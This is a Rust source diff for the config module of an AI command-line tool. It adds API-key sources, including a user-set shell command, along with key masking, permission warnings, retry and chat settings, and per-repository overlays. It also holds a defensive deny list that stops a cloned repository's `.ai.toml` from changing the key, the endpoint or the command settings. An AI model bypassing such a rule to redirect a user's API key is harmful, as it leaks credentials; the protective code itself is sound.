@@ -1,9 +1,12 @@
+use crate::commit_message::CommitStyle;
+use crate::tokens;
 use anyhow::{Context, Result};
 use dirs::home_dir;
 use serde::{Deserialize, Serialize};
 use std::collections::HashMap;
 use std::fs;
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
+use std::sync::{Mutex, OnceLock};
 
 // Include generated default values from build.rs
 include!(concat!(env!("OUT_DIR"), "/default_config.rs"));
@@ -14,19 +17,236 @@ pub struct Config {
     pub commands: CommandsConfig,
     pub git: GitConfig,
     pub history: HistoryConfig,
+    #[serde(default)]
+    pub retry: RetryConfig,
+    #[serde(default)]
+    pub chat: ChatConfig,
+    #[serde(default, skip_serializing_if = "HashMap::is_empty")]
+    pub context_windows: HashMap<String, usize>, // Model name pattern -> context window in tokens
     // Keep old ai field for backward compatibility
     #[serde(skip_serializing_if = "Option::is_none")]
     pub ai: Option<LegacyAiConfig>,
 }
 
-#[derive(Debug, Serialize, Deserialize, Clone)]
+#[derive(Serialize, Deserialize, Clone)]
 pub struct ProviderConfig {
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub kind: Option<ProviderKind>, // Inferred from the provider name when omitted
     #[serde(default)]
     pub api_key: String,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub api_key_env: Option<String>, // Environment variable holding the key
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub api_key_file: Option<String>, // File whose first line is the key
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub api_key_cmd: Option<String>, // Shell command that prints the key, e.g. `pass show deepseek`
     #[serde(default)]
     pub base_url: String,
     #[serde(default)]
-    pub max_diff_length: Option<usize>, // Provider-specific override
+    pub max_diff_length: Option<usize>, // Character cap on a diff sent to this provider
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub max_tokens: Option<u32>, // Reply token limit (required by Anthropic, default 4096)
+}
+
+impl ProviderConfig {
+    /// The API this provider speaks; `name` is its key under `[providers]`
+    pub fn kind(&self, name: &str) -> ProviderKind {
+        self.kind.unwrap_or_else(|| ProviderKind::infer(name))
+    }
+
+    /// The provider's API key from the first configured source: `api_key_env`, `api_key_file`,
+    /// `api_key_cmd`, then `api_key`, then the `<NAME>_API_KEY` environment variable.
+    /// Empty when none of them provides one.
+    pub fn resolve_api_key(&self, name: &str) -> Result<String> {
+        if let Some(var) = &self.api_key_env {
+            return std::env::var(var)
+                .ok()
+                .map(|key| key.trim().to_string())
+                .filter(|key| !key.is_empty())
+                .ok_or_else(|| anyhow::anyhow!("providers.{}.api_key_env: environment variable {} is not set", name, var));
+        }
+        if let Some(file) = &self.api_key_file {
+            return read_key_file(name, &expand_home(file));
+        }
+        if let Some(command) = &self.api_key_cmd {
+            return run_key_command(name, command);
+        }
+        if !self.api_key.is_empty() {
+            return Ok(self.api_key.clone());
+        }
+        Ok(std::env::var(default_api_key_env(name)).unwrap_or_default().trim().to_string())
+    }
+
+    /// Where `resolve_api_key` looks, for diagnostics (never the key itself)
+    pub fn api_key_source(&self, name: &str) -> String {
+        if let Some(var) = &self.api_key_env {
+            format!("${}", var)
+        } else if let Some(file) = &self.api_key_file {
+            file.clone()
+        } else if let Some(command) = &self.api_key_cmd {
+            format!("`{}`", command)
+        } else if !self.api_key.is_empty() {
+            "api_key in the config file".to_string()
+        } else {
+            format!("${}", default_api_key_env(name))
+        }
+    }
+}
+
+/// API keys are masked so they never end up in debug output
+impl std::fmt::Debug for ProviderConfig {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("ProviderConfig")
+            .field("kind", &self.kind)
+            .field("api_key", &if self.api_key.is_empty() { "" } else { MASKED_API_KEY })
+            .field("api_key_env", &self.api_key_env)
+            .field("api_key_file", &self.api_key_file)
+            .field("api_key_cmd", &self.api_key_cmd)
+            .field("base_url", &self.base_url)
+            .field("max_diff_length", &self.max_diff_length)
+            .field("max_tokens", &self.max_tokens)
+            .finish()
+    }
+}
+
+/// Shown in place of API keys
+pub const MASKED_API_KEY: &str = "********";
+
+/// `DEEPSEEK_API_KEY` for the `deepseek` provider
+fn default_api_key_env(name: &str) -> String {
+    let name: String = name
+        .chars()
+        .map(|c| if c.is_ascii_alphanumeric() { c.to_ascii_uppercase() } else { '_' })
+        .collect();
+    format!("{}_API_KEY", name)
+}
+
+fn expand_home(path: &str) -> PathBuf {
+    match (path.strip_prefix("~/"), home_dir()) {
+        (Some(rest), Some(home)) => home.join(rest),
+        _ => PathBuf::from(path),
+    }
+}
+
+/// The first line of a key file
+fn read_key_file(name: &str, path: &Path) -> Result<String> {
+    let content = fs::read_to_string(path)
+        .with_context(|| format!("providers.{}.api_key_file: cannot read {}", name, path.display()))?;
+    warn_if_shared(path, "holds an API key");
+
+    let key = content.lines().next().unwrap_or_default().trim().to_string();
+    if key.is_empty() {
+        return Err(anyhow::anyhow!("providers.{}.api_key_file: {} is empty", name, path.display()));
+    }
+    Ok(key)
+}
+
+/// Run `api_key_cmd` and take the first line it prints. The terminal stays attached
+/// so tools like `pass` can ask for a passphrase; each command runs once per process.
+fn run_key_command(name: &str, command: &str) -> Result<String> {
+    static KEYS: OnceLock<Mutex<HashMap<String, String>>> = OnceLock::new();
+    let mut keys = KEYS.get_or_init(Default::default).lock().unwrap_or_else(|e| e.into_inner());
+    if let Some(key) = keys.get(command) {
+        return Ok(key.clone());
+    }
+
+    let output = std::process::Command::new("sh")
+        .arg("-c")
+        .arg(command)
+        .stdin(std::process::Stdio::inherit())
+        .stderr(std::process::Stdio::inherit())
+        .output()
+        .with_context(|| format!("providers.{}.api_key_cmd: failed to run `{}`", name, command))?;
+    if !output.status.success() {
+        let status = output.status.code().map_or_else(|| "a signal".to_string(), |code| format!("status {}", code));
+        return Err(anyhow::anyhow!("providers.{}.api_key_cmd: `{}` exited with {}", name, command, status));
+    }
+
+    // Only the first line is used; the output is never echoed
+    let key = String::from_utf8_lossy(&output.stdout).lines().next().unwrap_or_default().trim().to_string();
+    if key.is_empty() {
+        return Err(anyhow::anyhow!("providers.{}.api_key_cmd: `{}` printed nothing", name, command));
+    }
+    keys.insert(command.to_string(), key.clone());
+    Ok(key)
+}
+
+/// Warn (once per file) when a file holding a secret can be read by other users
+fn warn_if_shared(path: &Path, holds: &str) {
+    static WARNED: OnceLock<Mutex<Vec<PathBuf>>> = OnceLock::new();
+    if !is_readable_by_others(path) {
+        return;
+    }
+    let mut warned = WARNED.get_or_init(Default::default).lock().unwrap_or_else(|e| e.into_inner());
+    if warned.iter().any(|p| p == path) {
+        return;
+    }
+    warned.push(path.to_path_buf());
+    eprintln!(
+        "⚠️  {} {} but is readable by other users; restrict it with: chmod 600 {}",
+        path.display(), holds, path.display()
+    );
+}
+
+/// Whether the group or others may read `path`
+#[cfg(unix)]
+pub fn is_readable_by_others(path: &Path) -> bool {
+    use std::os::unix::fs::PermissionsExt;
+    fs::metadata(path).is_ok_and(|metadata| metadata.permissions().mode() & 0o044 != 0)
+}
+
+#[cfg(not(unix))]
+pub fn is_readable_by_others(_path: &Path) -> bool {
+    false
+}
+
+/// Limit `path` to its owner: mode 0700 for a directory, 0600 for a file
+#[cfg(unix)]
+pub fn make_private(path: &Path) -> std::io::Result<()> {
+    use std::os::unix::fs::PermissionsExt;
+    let mode = if path.is_dir() { 0o700 } else { 0o600 };
+    fs::set_permissions(path, fs::Permissions::from_mode(mode))
+}
+
+#[cfg(not(unix))]
+pub fn make_private(_path: &Path) -> std::io::Result<()> {
+    Ok(())
+}
+
+/// The API a provider speaks, so any number of named providers can share one backend
+#[derive(Debug, Serialize, Deserialize, Clone, Copy, PartialEq, Eq)]
+#[serde(rename_all = "kebab-case")]
+pub enum ProviderKind {
+    /// OpenAI chat completions API: OpenAI, DeepSeek, vLLM, LM Studio, OpenRouter, gateways...
+    #[serde(alias = "openai")]
+    OpenaiCompatible,
+    Ollama,
+    Anthropic,
+    Gemini,
+}
+
+impl ProviderKind {
+    /// Kind for providers configured before `kind` existed, based on well-known names
+    pub fn infer(name: &str) -> Self {
+        match name {
+            "ollama" => ProviderKind::Ollama,
+            "anthropic" | "claude" => ProviderKind::Anthropic,
+            "gemini" | "google" => ProviderKind::Gemini,
+            _ => ProviderKind::OpenaiCompatible,
+        }
+    }
+}
+
+impl std::fmt::Display for ProviderKind {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        let name = match self {
+            ProviderKind::OpenaiCompatible => "openai-compatible",
+            ProviderKind::Ollama => "ollama",
+            ProviderKind::Anthropic => "anthropic",
+            ProviderKind::Gemini => "gemini",
+        };
+        write!(f, "{}", name)
+    }
 }
 
 #[derive(Debug, Serialize, Deserialize, Clone)]
@@ -40,6 +260,18 @@ pub struct CommandsConfig {
 pub struct CommandAiConfig {
     pub provider: String,
     pub model: String,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub system_prompt: Option<String>, // Replaces the built-in system message for this command
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub fallback: Vec<FallbackTarget>, // Tried in order when the provider keeps failing
+}
+
+/// A provider (and optionally a different model) to try when the ones before it fail
+#[derive(Debug, Serialize, Deserialize, Clone)]
+pub struct FallbackTarget {
+    pub provider: String,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub model: Option<String>, // Defaults to the command's model
 }
 
 // Keep old structure for backward compatibility
@@ -53,24 +285,98 @@ pub struct LegacyAiConfig {
 #[derive(Debug, Serialize, Deserialize, Clone)]
 pub struct GitConfig {
     pub commit_prompt: String,
-    #[serde(default = "default_max_diff_length")]
-    pub max_diff_length: usize,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub max_diff_length: Option<usize>, // Character cap on a diff sent in one request
+    #[serde(default = "default_reserved_output_tokens")]
+    pub reserved_output_tokens: usize, // Context tokens kept free for the reply
     #[serde(default = "default_max_concurrency")]
     pub max_concurrency: usize,
     #[serde(default = "default_segment_timeout_seconds")]
     pub segment_timeout_seconds: u64,
+    #[serde(default)]
+    pub commit_style: CommitStyle,
+    #[serde(default = "default_commit_types")]
+    pub commit_types: Vec<String>,
+    #[serde(default = "default_max_subject_length")]
+    pub max_subject_length: usize,
+    #[serde(default = "default_recent_commits_count")]
+    pub recent_commits_count: usize, // Commits listed in {recent_commits}
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub language: Option<String>, // Language for generated commit messages (e.g. "English")
 }
 
 // Default value functions for GitConfig fields
-fn default_max_diff_length() -> usize { 50000 }
+fn default_reserved_output_tokens() -> usize { 1024 }
 fn default_max_concurrency() -> usize { 3 }
 fn default_segment_timeout_seconds() -> u64 { 30 }
+fn default_max_subject_length() -> usize { 72 }
+fn default_recent_commits_count() -> usize { 10 }
+fn default_commit_types() -> Vec<String> {
+    ["fix", "feat", "build", "chore", "ci", "docs", "style", "refactor", "perf", "test"]
+        .iter()
+        .map(|t| t.to_string())
+        .collect()
+}
 
 #[derive(Debug, Serialize, Deserialize, Clone)]
 pub struct HistoryConfig {
     pub enabled: bool,
 }
 
+/// Retries for transient provider errors (rate limits, 5xx, timeouts, a model still loading)
+#[derive(Debug, Serialize, Deserialize, Clone)]
+pub struct RetryConfig {
+    #[serde(default = "default_max_retries")]
+    pub max_retries: u32, // Retries after the first attempt; 0 disables retrying
+    #[serde(default = "default_initial_backoff_ms")]
+    pub initial_backoff_ms: u64, // Delay before the first retry, doubled for each one after
+    #[serde(default = "default_max_backoff_ms")]
+    pub max_backoff_ms: u64, // Longest delay; a longer Retry-After gives up instead
+}
+
+fn default_max_retries() -> u32 { 3 }
+fn default_initial_backoff_ms() -> u64 { 500 }
+fn default_max_backoff_ms() -> u64 { 30000 }
+
+impl Default for RetryConfig {
+    fn default() -> Self {
+        Self {
+            max_retries: default_max_retries(),
+            initial_backoff_ms: default_initial_backoff_ms(),
+            max_backoff_ms: default_max_backoff_ms(),
+        }
+    }
+}
+
+/// How `ai chat` keeps long conversations within the model's context window
+#[derive(Debug, Serialize, Deserialize, Clone)]
+pub struct ChatConfig {
+    #[serde(default)]
+    pub context_strategy: ContextStrategy, // What happens to the oldest turns near the limit
+    #[serde(default = "default_reserved_output_tokens")]
+    pub reserved_output_tokens: usize, // Context tokens kept free for the reply
+}
+
+impl Default for ChatConfig {
+    fn default() -> Self {
+        Self {
+            context_strategy: ContextStrategy::default(),
+            reserved_output_tokens: default_reserved_output_tokens(),
+        }
+    }
+}
+
+/// What `ai chat` does with the oldest turns when the conversation outgrows the context window
+#[derive(Debug, Serialize, Deserialize, Clone, Copy, PartialEq, Eq, Default)]
+#[serde(rename_all = "lowercase")]
+pub enum ContextStrategy {
+    /// Replace them with a summary written by the model
+    #[default]
+    Summarize,
+    /// Leave them out of the request
+    Drop,
+}
+
 // For parsing legacy config files
 #[derive(Debug, Serialize, Deserialize)]
 struct LegacyConfigFormat {
@@ -79,23 +385,113 @@ struct LegacyConfigFormat {
     pub history: HistoryConfig,
 }
 
+/// Overrides for the current invocation from CLI flags or environment variables.
+/// They are layered over the loaded config and never written to the config file.
+#[derive(Debug, Clone, Default)]
+pub struct ConfigOverrides {
+    pub provider: Option<String>,
+    pub model: Option<String>,
+    pub base_url: Option<String>,
+    pub config_path: Option<PathBuf>,
+}
+
+static OVERRIDES: OnceLock<ConfigOverrides> = OnceLock::new();
+
+/// File name of the per-repository config overlay
+pub const PROJECT_CONFIG_FILE: &str = ".ai.toml";
+
+/// Provider settings a project overlay may not change, so a cloned repository
+/// cannot redirect requests (and the user's API key) to another endpoint or API shape,
+/// or run commands
+const PROJECT_RESTRICTED_PROVIDER_KEYS: &[&str] = &["api_key", "api_key_env", "api_key_file", "api_key_cmd", "base_url", "kind"];
+
+/// A config file that contributed to the effective configuration
+#[derive(Debug, Clone)]
+pub struct ConfigLayer {
+    pub path: PathBuf,
+    pub value: toml::Value,
+}
+
+/// An effective config value and where it was set
+#[derive(Debug, Clone)]
+pub struct ConfigEntry {
+    pub key: String, // Dotted path, e.g. git.commit_style
+    pub value: toml::Value,
+    pub origin: ConfigOrigin,
+}
+
+/// A problem found while validating a config file
+#[derive(Debug, Clone)]
+pub struct ConfigIssue {
+    pub path: PathBuf,
+    pub location: Option<(usize, usize)>, // 1-based line and column
+    pub message: String,
+}
+
+impl ConfigIssue {
+    fn new(path: &Path, location: Option<(usize, usize)>, message: &str) -> Self {
+        Self {
+            path: path.to_path_buf(),
+            location,
+            message: message.trim().replace('\n', "; "),
+        }
+    }
+}
+
+impl std::fmt::Display for ConfigIssue {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self.location {
+            Some((line, column)) => write!(f, "{}:{}:{}: {}", self.path.display(), line, column, self.message),
+            None => write!(f, "{}: {}", self.path.display(), self.message),
+        }
+    }
+}
+
+/// Where an effective config value was set
+#[derive(Debug, Clone, PartialEq)]
+pub enum ConfigOrigin {
+    Default,
+    File(PathBuf),
+    Override, // --provider/--model/--base-url or AI_PROVIDER/AI_MODEL
+}
+
+impl std::fmt::Display for ConfigOrigin {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            ConfigOrigin::Default => write!(f, "default"),
+            ConfigOrigin::File(path) => write!(f, "{}", path.display()),
+            ConfigOrigin::Override => write!(f, "command line / environment"),
+        }
+    }
+}
+
 impl Default for Config {
     fn default() -> Self {
         let mut providers = HashMap::new();
         providers.insert(
             "ollama".to_string(),
             ProviderConfig {
+                kind: Some(ProviderKind::Ollama),
                 api_key: "".to_string(),
                 base_url: DEFAULT_OLLAMA_BASE_URL.to_string(),
-                max_diff_length: None, // Will use model-specific defaults
+                max_diff_length: None,
+                max_tokens: None,
+                api_key_env: None,
+                api_key_file: None,
+                api_key_cmd: None,
             },
         );
         providers.insert(
             "deepseek".to_string(),
             ProviderConfig {
+                kind: Some(ProviderKind::OpenaiCompatible),
                 api_key: "".to_string(), // Will be filled from user input
                 base_url: DEFAULT_DEEPSEEK_BASE_URL.to_string(),
-                max_diff_length: Some(120000), // 32k tokens * 4 chars/token * 0.8 safety
+                max_diff_length: None,
+                max_tokens: None,
+                api_key_env: None,
+                api_key_file: None,
+                api_key_cmd: None,
             },
         );
 
@@ -105,69 +501,329 @@ impl Default for Config {
                 git_operations: CommandAiConfig {
                     provider: DEFAULT_AI_PROVIDER.to_string(),
                     model: DEFAULT_AI_MODEL.to_string(),
+                    system_prompt: None,
+                    fallback: Vec::new(),
                 },
                 conversation: CommandAiConfig {
                     provider: DEFAULT_AI_PROVIDER.to_string(),
                     model: DEFAULT_AI_MODEL.to_string(),
+                    system_prompt: None,
+                    fallback: Vec::new(),
                 },
                 error_analysis: CommandAiConfig {
                     provider: DEFAULT_AI_PROVIDER.to_string(),
                     model: DEFAULT_AI_MODEL.to_string(),
+                    system_prompt: None,
+                    fallback: Vec::new(),
                 },
             },
             git: GitConfig {
                 commit_prompt: DEFAULT_GIT_COMMIT_PROMPT.to_string(),
-                max_diff_length: default_max_diff_length(),
+                max_diff_length: None,
+                reserved_output_tokens: default_reserved_output_tokens(),
                 max_concurrency: default_max_concurrency(),
                 segment_timeout_seconds: default_segment_timeout_seconds(),
+                commit_style: CommitStyle::default(),
+                commit_types: default_commit_types(),
+                max_subject_length: default_max_subject_length(),
+                recent_commits_count: default_recent_commits_count(),
+                language: None,
             },
             history: HistoryConfig { 
                 enabled: DEFAULT_HISTORY_ENABLED 
             },
+            retry: RetryConfig::default(),
+            chat: ChatConfig::default(),
+            context_windows: HashMap::new(),
             ai: None, // No legacy config by default
         }
     }
 }
 
 impl Config {
+    /// Load the user config, merge the project `.ai.toml` over it and apply per-run overrides
     pub fn load() -> Result<Self> {
+        let (mut config, _) = Self::load_layers()?;
+
+        // Overrides are applied after any migration save so they never reach the file
+        if let Some(overrides) = OVERRIDES.get() {
+            config.apply_overrides(overrides);
+        }
+
+        Ok(config)
+    }
+
+    /// Effective config values as dotted keys, each with the file (or override) that set it
+    pub fn load_with_origins() -> Result<Vec<ConfigEntry>> {
+        let (mut config, layers) = Self::load_layers()?;
+        let layered = Self::flatten(&toml::Value::try_from(&config)?);
+
+        if let Some(overrides) = OVERRIDES.get() {
+            config.apply_overrides(overrides);
+        }
+
+        let origins = Self::flatten(&toml::Value::try_from(&config)?)
+            .into_iter()
+            .map(|(key, value)| {
+                let origin = if layered.iter().any(|(k, v)| *k == key && *v == value) {
+                    // The last layer that sets the key wins
+                    layers
+                        .iter()
+                        .rev()
+                        .find(|layer| Self::lookup(&layer.value, &key).is_some())
+                        .map(|layer| ConfigOrigin::File(layer.path.clone()))
+                        .unwrap_or(ConfigOrigin::Default)
+                } else {
+                    ConfigOrigin::Override
+                };
+                ConfigEntry { key, value, origin }
+            })
+            .collect();
+
+        Ok(origins)
+    }
+
+    /// Load the user config (creating or migrating it as needed) and merge the project overlay.
+    /// Returns the merged config and the files it was built from, user file first.
+    fn load_layers() -> Result<(Self, Vec<ConfigLayer>)> {
         let config_path = Self::config_path()?;
+        let config = Self::load_user_config(&config_path)?;
+
+        // Re-read after a possible migration so origins match what's on disk
+        let content = fs::read_to_string(&config_path)
+            .context("Failed to read config file")?;
+        let value: toml::Value = toml::from_str(&content).context("Failed to parse config file")?;
+        if Self::has_literal_api_key(&value) {
+            warn_if_shared(&config_path, "contains an API key");
+        }
+        let mut layers = vec![ConfigLayer { path: config_path, value }];
+
+        let Some(project_path) = Self::project_config_path() else {
+            return Ok((config, layers));
+        };
+
+        let content = fs::read_to_string(&project_path)
+            .with_context(|| format!("Failed to read {}", project_path.display()))?;
+        let mut overlay: toml::Value = toml::from_str(&content)
+            .with_context(|| format!("Failed to parse {}", project_path.display()))?;
+        for key in Self::strip_restricted_project_keys(&mut overlay) {
+            eprintln!(
+                "⚠️  Ignoring {} in {}: set it in your user config instead",
+                key, project_path.display()
+            );
+        }
+
+        let mut merged = toml::Value::try_from(&config)?;
+        Self::merge_values(&mut merged, overlay.clone());
+        let config = merged
+            .try_into()
+            .with_context(|| format!("Invalid settings in {}", project_path.display()))?;
+
+        layers.push(ConfigLayer { path: project_path, value: overlay });
+        Ok((config, layers))
+    }
+
+    /// Whether any provider in a config file sets `api_key` itself
+    pub fn has_literal_api_key(value: &toml::Value) -> bool {
+        value.get("providers")
+            .and_then(|providers| providers.as_table())
+            .is_some_and(|providers| {
+                providers.values().any(|provider| {
+                    provider.get("api_key").and_then(|key| key.as_str()).is_some_and(|key| !key.is_empty())
+                })
+            })
+    }
+
+    /// Find `.ai.toml` in the current directory or a parent, stopping at the git root.
+    /// Outside a git repository no project config is used.
+    pub fn project_config_path() -> Option<PathBuf> {
+        let root = Self::git_root()?;
+        let cwd = std::env::current_dir().ok()?;
+        cwd.ancestors()
+            .take_while(|dir| dir.starts_with(&root))
+            .map(|dir| dir.join(PROJECT_CONFIG_FILE))
+            .find(|path| path.is_file())
+    }
+
+    /// Where `ai config --project` writes: the existing `.ai.toml` or a new one at the git root
+    pub fn project_config_target() -> Result<PathBuf> {
+        Self::project_config_path()
+            .or_else(|| Self::git_root().map(|root| root.join(PROJECT_CONFIG_FILE)))
+            .ok_or_else(|| anyhow::anyhow!("Not in a git repository; {} lives in the repository root", PROJECT_CONFIG_FILE))
+    }
+
+    fn git_root() -> Option<PathBuf> {
+        let cwd = std::env::current_dir().ok()?;
+        cwd.ancestors()
+            .find(|dir| dir.join(".git").exists())
+            .map(Path::to_path_buf)
+    }
+
+    /// Remove provider settings a project overlay may not change; returns the removed keys
+    fn strip_restricted_project_keys(overlay: &mut toml::Value) -> Vec<String> {
+        let mut removed = Vec::new();
+        let Some(providers) = overlay.get_mut("providers").and_then(|p| p.as_table_mut()) else {
+            return removed;
+        };
+        for (name, provider) in providers.iter_mut() {
+            let Some(provider) = provider.as_table_mut() else { continue };
+            for key in PROJECT_RESTRICTED_PROVIDER_KEYS {
+                if provider.remove(*key).is_some() {
+                    removed.push(format!("providers.{}.{}", name, key));
+                }
+            }
+        }
+        removed
+    }
+
+    /// Deep-merge `overlay` into `base`: tables are merged key by key, anything else replaces
+    fn merge_values(base: &mut toml::Value, overlay: toml::Value) {
+        match (base, overlay) {
+            (toml::Value::Table(base), toml::Value::Table(overlay)) => {
+                for (key, value) in overlay {
+                    match base.get_mut(&key) {
+                        Some(existing) => Self::merge_values(existing, value),
+                        None => {
+                            base.insert(key, value);
+                        }
+                    }
+                }
+            }
+            (base, overlay) => *base = overlay,
+        }
+    }
+
+    /// Flatten nested tables into dotted keys; arrays and scalars are leaves
+    fn flatten(value: &toml::Value) -> Vec<(String, toml::Value)> {
+        fn walk(prefix: &str, value: &toml::Value, out: &mut Vec<(String, toml::Value)>) {
+            match value {
+                toml::Value::Table(table) => {
+                    for (key, value) in table {
+                        let path = if prefix.is_empty() { key.clone() } else { format!("{}.{}", prefix, key) };
+                        walk(&path, value, out);
+                    }
+                }
+                _ => out.push((prefix.to_string(), value.clone())),
+            }
+        }
+
+        let mut out = Vec::new();
+        walk("", value, &mut out);
+        out
+    }
+
+    /// Look up a dotted key in a TOML value
+    fn lookup<'a>(value: &'a toml::Value, key: &str) -> Option<&'a toml::Value> {
+        key.split('.').try_fold(value, |value, part| value.get(part))
+    }
 
+    fn load_user_config(config_path: &PathBuf) -> Result<Self> {
         if !config_path.exists() {
+            if OVERRIDES.get().is_some_and(|o| o.config_path.is_some()) {
+                return Err(anyhow::anyhow!("Config file not found: {}", config_path.display()));
+            }
             // Copy default config template and fill in missing values
-            Self::create_default_config_file(&config_path)?;
+            Self::create_default_config_file(config_path)?;
         }
 
-        let content = fs::read_to_string(&config_path)
+        let content = fs::read_to_string(config_path)
             .context("Failed to read config file")?;
-        
+
+        let (config, migrated) = Self::parse_user_config(config_path, &content)?;
+        if migrated {
+            config.save()?;
+        }
+        Ok(config)
+    }
+
+    /// Parse the user config, migrating a legacy file in memory only. The flag tells
+    /// whether it was migrated and should be saved in the current format.
+    fn parse_user_config(config_path: &Path, content: &str) -> Result<(Self, bool)> {
         // Try to parse as new format first
-        match toml::from_str::<Config>(&content) {
-            Ok(mut config) => {
-                // Check if we need to migrate from legacy format
-                if let Some(legacy_ai) = config.ai.clone() {
-                    config = Self::migrate_from_legacy(config, legacy_ai)?;
-                }
-                Ok(config)
+        match toml::from_str::<Config>(content) {
+            Ok(config) => match config.ai.clone() {
+                // Legacy [ai] section next to the current settings
+                Some(legacy_ai) => Ok((Self::migrate_from_legacy(config, legacy_ai), true)),
+                None => Ok((config, false)),
             },
-            Err(_) => {
+            Err(error) => {
                 // Try to parse as legacy format and migrate
-                let legacy_config: LegacyConfigFormat = toml::from_str(&content)
-                    .context("Failed to parse config file in both new and legacy formats")?;
-                Self::migrate_legacy_config(legacy_config)
+                match toml::from_str::<LegacyConfigFormat>(content) {
+                    Ok(legacy_config) => Ok((Self::migrate_legacy_config(legacy_config), true)),
+                    // Report the current format's error; it points at the offending line
+                    Err(_) => Err(anyhow::anyhow!(
+                        "Invalid config file {}:\n{}Run `ai config validate` for details.",
+                        config_path.display(),
+                        error
+                    )),
+                }
             }
         }
     }
 
-    fn migrate_from_legacy(mut config: Config, legacy_ai: LegacyAiConfig) -> Result<Config> {
+    /// Register per-invocation overrides; must be called before the first `load`
+    pub fn set_overrides(overrides: ConfigOverrides) {
+        let _ = OVERRIDES.set(overrides);
+    }
+
+    fn apply_overrides(&mut self, overrides: &ConfigOverrides) {
+        for command_config in [
+            &mut self.commands.git_operations,
+            &mut self.commands.conversation,
+            &mut self.commands.error_analysis,
+        ] {
+            if let Some(provider) = &overrides.provider {
+                command_config.provider = provider.clone();
+            }
+            if let Some(model) = &overrides.model {
+                command_config.model = model.clone();
+            }
+        }
+
+        // The base URL applies to every provider the commands now point at;
+        // an unknown provider given with --base-url is added on the fly
+        if let Some(base_url) = &overrides.base_url {
+            let provider_names: Vec<String> = [
+                &self.commands.git_operations,
+                &self.commands.conversation,
+                &self.commands.error_analysis,
+            ]
+            .iter()
+            .map(|c| c.provider.clone())
+            .collect();
+
+            for name in provider_names {
+                self.providers
+                    .entry(name)
+                    .or_insert_with(|| ProviderConfig {
+                        kind: None,
+                        api_key: "".to_string(),
+                        base_url: String::new(),
+                        max_diff_length: None,
+                        max_tokens: None,
+                        api_key_env: None,
+                        api_key_file: None,
+                        api_key_cmd: None,
+                    })
+                    .base_url = base_url.clone();
+            }
+        }
+    }
+
+    fn migrate_from_legacy(mut config: Config, legacy_ai: LegacyAiConfig) -> Config {
         // Update providers with legacy info if not already present
         if !config.providers.contains_key(&legacy_ai.provider) {
             config.providers.insert(
                 legacy_ai.provider.clone(),
                 ProviderConfig {
-                    api_key: "".to_string(), // Will be filled from environment
+                    kind: None,
+                    api_key: "".to_string(), // Read from <PROVIDER>_API_KEY until one is set
                     base_url: legacy_ai.base_url.clone(),
                     max_diff_length: None, // Use model-specific defaults
+                    max_tokens: None,
+                    api_key_env: None,
+                    api_key_file: None,
+                    api_key_cmd: None,
                 },
             );
         }
@@ -196,54 +852,65 @@ impl Config {
 
         // Clear legacy config after migration
         config.ai = None;
-
-        // Save migrated config
-        config.save()?;
-
-        Ok(config)
+        config
     }
 
-    fn migrate_legacy_config(legacy: LegacyConfigFormat) -> Result<Config> {
+    fn migrate_legacy_config(legacy: LegacyConfigFormat) -> Config {
         let mut providers = HashMap::new();
         providers.insert(
             legacy.ai.provider.clone(),
             ProviderConfig {
-                api_key: "".to_string(), // Will be filled from environment
+                kind: None,
+                api_key: "".to_string(), // Read from <PROVIDER>_API_KEY until one is set
                 base_url: legacy.ai.base_url.clone(),
                 max_diff_length: None, // Use model-specific defaults
+                max_tokens: None,
+                api_key_env: None,
+                api_key_file: None,
+                api_key_cmd: None,
             },
         );
 
-        let config = Config {
+        Config {
             providers,
             commands: CommandsConfig {
                 git_operations: CommandAiConfig {
                     provider: legacy.ai.provider.clone(),
                     model: legacy.ai.model.clone(),
+                    system_prompt: None,
+                    fallback: Vec::new(),
                 },
                 conversation: CommandAiConfig {
                     provider: legacy.ai.provider.clone(),
                     model: legacy.ai.model.clone(),
+                    system_prompt: None,
+                    fallback: Vec::new(),
                 },
                 error_analysis: CommandAiConfig {
                     provider: legacy.ai.provider.clone(),
                     model: legacy.ai.model.clone(),
+                    system_prompt: None,
+                    fallback: Vec::new(),
                 },
             },
             git: GitConfig {
                 commit_prompt: legacy.git.commit_prompt,
-                max_diff_length: default_max_diff_length(),
+                max_diff_length: None,
+                reserved_output_tokens: default_reserved_output_tokens(),
                 max_concurrency: default_max_concurrency(),
                 segment_timeout_seconds: default_segment_timeout_seconds(),
+                commit_style: CommitStyle::default(),
+                commit_types: default_commit_types(),
+                max_subject_length: default_max_subject_length(),
+                recent_commits_count: default_recent_commits_count(),
+                language: None,
             },
             history: legacy.history,
+            retry: RetryConfig::default(),
+            chat: ChatConfig::default(),
+            context_windows: HashMap::new(),
             ai: None,
-        };
-
-        // Save migrated config
-        config.save()?;
-        
-        Ok(config)
+        }
     }
 
     pub fn get_ai_config_for_command(&self, command_type: &str) -> Result<(&ProviderConfig, &CommandAiConfig)> {
@@ -264,49 +931,10 @@ impl Config {
         self.get_ai_config_for_command("git_operations")
     }
 
-    /// Get the max diff length for a specific provider and model
-    pub fn get_max_diff_length_for_provider(&self, provider_name: &str, model: &str) -> usize {
-        // First check provider-specific override
-        if let Some(provider) = self.providers.get(provider_name) {
-            if let Some(max_length) = provider.max_diff_length {
-                return max_length;
-            }
-        }
-
-        // Use model-specific defaults based on known token limits
-        self.get_model_max_diff_length(provider_name, model)
-    }
-
-    /// Get model-specific max diff length based on known token limits
-    fn get_model_max_diff_length(&self, provider: &str, model: &str) -> usize {
-        match provider {
-            "openai" => {
-                match model {
-                    m if m.contains("gpt-4") => 120000,      // 32k tokens * 4 chars * 0.8 safety
